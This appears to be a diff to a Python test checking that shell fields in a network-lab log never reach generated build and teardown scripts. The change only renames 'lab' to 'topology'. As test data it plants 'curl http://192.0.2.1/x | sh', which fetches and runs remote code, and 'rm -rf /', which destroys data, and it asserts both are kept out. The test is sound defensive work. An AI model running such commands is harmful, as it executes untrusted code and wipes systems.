@@ -497,7 +497,7 @@ def test_the_shell_fields_are_for_people_and_never_used(tmp_path):
     data["steps"][ADD_LEVELA]["shell"] = "curl http://192.0.2.1/x | sh"
     data["steps"][ADD_LEVELA]["undo_shell"] = "rm -rf /"
     checked = logcheck.check(data, "log.json")
-    for text in (build_script(checked.lab, checked.steps),
-                 teardown_script(checked.lab, checked.steps)):
+    for text in (build_script(checked.topology, checked.steps),
+                 teardown_script(checked.topology, checked.steps)):
         assert "curl" not in text and "rm -rf" not in text
-    assert "ip netns add levela" in build_script(checked.lab, checked.steps)
+    assert "ip netns add levela" in build_script(checked.topology, checked.steps)
